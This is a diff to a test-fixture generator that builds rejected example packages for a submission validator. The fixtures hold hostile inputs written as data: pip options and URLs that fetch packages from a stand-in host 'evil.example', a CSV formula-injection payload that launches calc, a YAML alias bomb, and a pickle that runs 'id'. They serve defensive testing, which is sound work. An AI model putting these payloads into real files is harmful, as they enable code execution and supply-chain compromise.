@@ -42,10 +42,28 @@ def examples(bad: Path) -> None:
         beside={MODEL_KEYS: PUBLIC},
     )
     write(
-        bad / "known-vulnerabilities/no-version",
+        bad / "known-vulnerabilities/too-many",
+        verdict="inconclusive",
+        says="1,001 packages are pinned, and 1,000 are asked about at most",
+        candidate={**PLAIN, "requirements.txt": b"".join(b"package-%d==1.0\n" % n for n in range(1_001))},
+    )
+    write(
+        bad / "requirements-pinned/no-version",
         verdict="inconclusive",
         says="requirements.txt:2 pins no version",
         candidate={**PLAIN, "requirements.txt": b"# of the training\nnumpy>=1.20\n"},
+    )
+    write(
+        bad / "requirements-pinned/other-index",
+        verdict="fail",
+        says="requirements.txt:1 has an option, --extra-index-url",
+        candidate={**PLAIN, "requirements.txt": b"--extra-index-url https://evil.example\nnumpy==2.1.0\n"},
+    )
+    write(
+        bad / "requirements-pinned/address",
+        verdict="fail",
+        says="requirements.txt:1 has an address or a path",
+        candidate={**PLAIN, "requirements.txt": b"numpy @ https://evil.example/numpy.whl\n"},
     )
     write(
         bad / "files-allowed/pickle",
@@ -64,6 +82,25 @@ def examples(bad: Path) -> None:
         verdict="fail",
         says="notes.json is a pickle, which runs code",
         candidate={**PLAIN, "notes.json": b"cos\nsystem\n(S'id'\ntR."},
+    )
+    write(
+        bad / "files-allowed/formula",
+        verdict="fail",
+        says="rows.csv has a formula in line 2 that reaches out of a spreadsheet",
+        candidate={**PLAIN, "rows.csv": b"a,b\n1,=cmd|' /C calc'!A0\n"},
+    )
+    laughs = b"a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n"
+    write(
+        bad / "files-allowed/aliases",
+        verdict="fail",
+        says="notes.yaml is YAML that is not read here (line 1: an anchor is not allowed)",
+        candidate={**PLAIN, "notes.yaml": laughs},
+    )
+    write(
+        bad / "onnx-beside/opaque",
+        verdict="fail",
+        says="old.onnx: ",
+        candidate={**PLAIN, "old.onnx": b"what nobody reads\n"},
     )
     write(
         bad / "files-allowed/no-json",
